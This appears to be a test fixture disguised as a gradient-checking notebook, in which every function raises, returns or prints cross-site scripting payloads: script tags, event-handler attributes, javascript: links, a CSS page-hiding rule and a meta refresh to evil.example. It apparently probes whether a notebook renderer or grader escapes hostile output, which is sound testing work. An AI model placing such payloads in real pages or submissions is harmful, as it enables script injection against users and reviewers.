# %%
Evil = type("<script>alert(1)</script>", (Exception,), {"__module__": "<img src=x onerror=alert(1)>"})
def forward_propagation(x, theta):
    raise Evil("<script>alert(2)</script>\n</pre><style>*{display:none}</style>")
def backward_propagation(x, theta):
    return type("' onmouseover='alert(1)", (), {})()
def gradient_check(x, theta, epsilon=1e-7):
    return {"<script>": "</script><script>alert(3)</script>", "\" onfocus=alert(1) autofocus=\"": ["<b>"]}
def gradient_check_n(parameters, gradients, X, Y, epsilon=1e-7):
    print("<script>alert(4)</script>")
    raise KeyError("<a href='javascript:alert(5)'>click</a> [x](javascript:alert(1)) `</code><script>` ")
# %%
raise Evil("<script>alert(6)</script>")
# %%
<script>alert("not Python")</script>
# %%
# [markdown] see below
raise SyntaxError("<meta http-equiv=refresh content='0;url=https://evil.example'>")
